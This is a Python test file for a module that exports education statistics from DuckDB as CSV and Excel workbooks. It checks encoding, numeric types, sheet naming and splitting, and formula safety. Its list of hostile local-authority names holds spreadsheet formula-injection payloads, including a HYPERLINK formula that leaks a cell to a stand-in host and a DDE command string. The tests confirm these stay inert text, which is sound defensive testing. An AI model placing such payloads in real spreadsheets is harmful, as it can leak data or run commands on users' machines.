"""Excel-ready exports: CSV with a byte-order mark and one XLSX workbook, read back as Excel users
would get them (openpyxl for the workbook), with hostile text that must never run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import duckdb
import openpyxl
import pytest

from orchestration.lib.outputs import exports, spreadsheets

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def _publication(path: Path) -> Path:
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE SCHEMA marts; CREATE SCHEMA audit")
        con.execute(
            "CREATE TABLE marts.dim_local_authority (old_la_code VARCHAR, la_name VARCHAR, "
            "statistical_neighbours VARCHAR[], statistical_neighbour_count INTEGER)"
        )
        rows = [(f"{800 + i}", name, ["801", "802"], 2) for i, name in enumerate(HOSTILE_NAMES)]
        rows += [("201", "City of London", [], 0), ("202", "-1.5", None, 0), ("203", "Café, Hove", ["9"], 1)]
        con.executemany("INSERT INTO marts.dim_local_authority VALUES (?, ?, ?, ?)", rows)
        con.execute(
            "CREATE TABLE marts.mart_key_stage_2 (time_period INTEGER, old_la_code VARCHAR, "
            "ks2_rwm_expected_value DOUBLE, ks2_rwm_expected_status VARCHAR, cohort DECIMAL(9, 0))"
        )
        con.execute(
            "INSERT INTO marts.mart_key_stage_2 VALUES (202425, '201', NULL, 'suppressed', 12), "
            "(202425, '202', 61.5, 'published', 3410)"
        )
        con.execute("CREATE TABLE marts.fct_la_measure AS SELECT 'ks2_rwm' AS measure_code, 61.5 AS value")
        con.execute(
            "CREATE TABLE audit.publications (publication_id VARCHAR, published_at TIMESTAMPTZ, "
            "code_version VARCHAR, table_checksums VARCHAR)"
        )
        con.execute(
            "INSERT INTO audit.publications VALUES ('pub-1', TIMESTAMPTZ '2025-12-01 09:30:00+00', 'abc', ?)",
            [json.dumps({"t": "x" * 40_000})],
        )
    return path


@pytest.fixture
def exported(tmp_path):
    published = _publication(tmp_path / "education.duckdb")
    return exports.export_published(published, tmp_path / "exports", None)


def _csv_rows(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(spreadsheets.CSV_BOM)  # Excel reads UTF-8 only with it
    return list(csv.DictReader(io.StringIO(raw[len(spreadsheets.CSV_BOM) :].decode("utf-8"))))


def test_csv_has_a_bom_lists_as_text_and_no_cell_excel_would_run(exported):
    rows = {r["old_la_code"]: r for r in _csv_rows(exported.csv_files["marts.dim_local_authority"])}
    for i, name in enumerate(HOSTILE_NAMES):
        assert rows[f"{800 + i}"]["la_name"] == "'" + name  # shown as text, not run
        assert rows[f"{800 + i}"]["statistical_neighbours"] == "801; 802"
    assert rows["202"]["la_name"] == "-1.5"  # a plain number is harmless and stays as published
    assert rows["203"]["la_name"] == "Café, Hove"
    assert rows["201"]["statistical_neighbours"] == "" and rows["202"]["statistical_neighbours"] == ""
    ks2 = {r["old_la_code"]: r for r in _csv_rows(exported.csv_files["marts.mart_key_stage_2"])}
    assert ks2["201"]["ks2_rwm_expected_value"] == "" and ks2["201"]["ks2_rwm_expected_status"] == "suppressed"
    assert ks2["202"]["ks2_rwm_expected_value"] == "61.5"


def test_workbook_keeps_numbers_as_numbers_and_text_as_text(exported):
    workbook = openpyxl.load_workbook(exported.workbook)  # not read-only: data_type is checked
    assert workbook.sheetnames[0] == spreadsheets.README_SHEET
    assert "fct_la_measure" not in workbook.sheetnames and "publications" not in workbook.sheetnames
    sheet = workbook["dim_local_authority"]
    header = [c.value for c in sheet[1]]
    assert header == ["old_la_code", "la_name", "statistical_neighbours", "statistical_neighbour_count"]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        code, name, neighbours, count = row
        assert name.data_type == "s" and code.data_type == "s"  # never 'f' (formula)
        assert count.data_type == "n" and isinstance(count.value, int)
        names[code.value] = (name.value, neighbours.value)
    for i, hostile in enumerate(HOSTILE_NAMES):
        assert names[f"{800 + i}"] == (hostile, "801; 802")  # as published, and inert
    assert names["202"] == ("-1.5", None)
    ks2 = workbook["mart_key_stage_2"]
    values = {r[1].value: r for r in ks2.iter_rows(min_row=2)}
    withheld, published = values["201"], values["202"]
    assert withheld[2].value is None and withheld[3].value == "suppressed"  # blank, status beside it
    assert published[2].value == 61.5 and published[2].data_type == "n"
    assert published[4].value == 3410 and published[4].data_type == "n"


def test_readme_sheet_describes_every_table_and_names_what_is_csv_only(tmp_path):
    published = _publication(tmp_path / "education.duckdb")
    manifest = tmp_path / "manifest.json"
    manifest.write_text(
        json.dumps(
            {
                "nodes": {
                    "model.p.mart_key_stage_2": {
                        "resource_type": "model",
                        "name": "mart_key_stage_2",
                        "config": {"schema": "marts"},
                        "description": "One row per LA and period: KS2.",
                        "columns": {"ks2_rwm_expected_value": {"description": "=Share meeting the standard."}},
                    }
                }
            }
        )
    )
    run = exports.export_published(published, tmp_path / "exports", manifest)
    rows = [[c for c in r] for r in openpyxl.load_workbook(run.workbook)[spreadsheets.README_SHEET].iter_rows()]
    values = [[c.value for c in r] for r in rows]
    assert values[0][:2] == ["publication_id", "pub-1"]
    described = {(r[0], r[2]): (r[1], r[4], r[5]) for r in values if r and r[0] and r[0].startswith("marts.")}
    assert described[("marts.mart_key_stage_2", "ks2_rwm_expected_value")] == (
        "mart_key_stage_2",
        "=Share meeting the standard.",
        "One row per LA and period",
    )
    assert described[("marts.fct_la_measure", "value")][0] == "marts.fct_la_measure.csv"
    assert all(c.data_type == "s" for r in rows for c in r if c.value is not None)
    assert any(v[0] and v[0].startswith("audit.publications is not in this workbook") for v in values)


def test_csv_and_workbook_times_are_utc(exported):
    rows = _csv_rows(exported.csv_files["audit.publications"])
    assert rows[0]["published_at"].startswith("2025-12-01 09:30:00")
    assert len(rows[0]["table_checksums"]) > spreadsheets.XLSX_MAX_CELL_CHARS  # whole in CSV


def test_text_longer_than_an_excel_cell_is_refused_not_cut(tmp_path, monkeypatch):
    published = _publication(tmp_path / "education.duckdb")
    monkeypatch.setattr(spreadsheets, "CSV_ONLY", {"marts.fct_la_measure": "long"})
    with pytest.raises(ValueError, match=r"education.xlsx: audit.publications: row 1, column table_checksums"):
        exports.export_published(published, tmp_path / "exports", None)
    assert not (tmp_path / "exports").exists() or not any((tmp_path / "exports").iterdir())


def test_long_tables_continue_on_numbered_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 4)  # 3 data rows a sheet
    published = _publication(tmp_path / "education.duckdb")
    run = exports.export_published(published, tmp_path / "exports", None)
    workbook = openpyxl.load_workbook(run.workbook)
    parts = [n for n in workbook.sheetnames if n.startswith("dim_local_authority")]
    assert parts == ["dim_local_authority", "dim_local_authority (2)", "dim_local_authority (3)"]
    codes = [r[0].value for n in parts for r in workbook[n].iter_rows(min_row=2)]
    assert codes == sorted(["201", "202", "203", "800", "801", "802", "803", "804"])
    assert all(workbook[n]["A1"].value == "old_la_code" for n in parts)


def test_sheet_names_fit_excel_and_never_clash():
    taken = {"read me"}
    first = spreadsheets._sheet_names("mart_schools_causing_concern_extra_long", 1, taken)
    second = spreadsheets._sheet_names("mart_schools_causing_concern_extra_longer", 1, taken)
    assert all(len(n) <= 31 for n in first + second)
    assert first != second and first[0].lower() != second[0].lower()


def test_timestamps_are_excel_dates(exported, tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "CSV_ONLY", {})
    published = tmp_path / "education.duckdb"
    with duckdb.connect(str(published)) as con:
        con.execute("UPDATE audit.publications SET table_checksums = '{}'")
    run = exports.export_published(published, tmp_path / "exports2", None)
    sheet = openpyxl.load_workbook(run.workbook)["publications"]
    assert sheet["B2"].value == dt.datetime(2025, 12, 1, 9, 30)


def test_a_large_workbook_is_written_in_its_own_process_cell_for_cell_as_inline(tmp_path, monkeypatch):
    """Past exports.WORKBOOK_PROCESS_CELLS the workbook is written in a worker process beside the
    Parquet and CSV files: the same sheets and cells, and its errors still name file, table and cell."""
    published = _publication(tmp_path / "education.duckdb")
    inline = exports.export_published(published, tmp_path / "inline", None)
    monkeypatch.setattr(exports, "WORKBOOK_PROCESS_CELLS", 0)
    worker = exports.export_published(published, tmp_path / "worker", None)

    def cells(path):
        workbook = openpyxl.load_workbook(path)
        return {name: [[c.value for c in row] for row in workbook[name].iter_rows()] for name in workbook.sheetnames}

    assert cells(worker.workbook) == cells(inline.workbook)
    assert len(cells(worker.workbook)["dim_local_authority"]) == 1 + len(HOSTILE_NAMES) + 3
    written = json.loads(worker.dictionary.read_text(encoding="utf-8"))
    assert {t["table"]: t["xlsx_sheets"] for t in written["tables"]}["marts.mart_key_stage_2"] == ["mart_key_stage_2"]

    with duckdb.connect(str(published)) as con:  # a cell too long for Excel, in a table the workbook holds
        con.execute("UPDATE marts.dim_local_authority SET la_name = repeat('x', 40000) WHERE old_la_code = '201'")
    with pytest.raises(ValueError, match=r"education.xlsx: marts.dim_local_authority: row \d+, column la_name"):
        exports.export_published(published, tmp_path / "worker", None)
    assert cells(tmp_path / "worker" / spreadsheets.WORKBOOK_NAME) == cells(inline.workbook)  # the last export stays
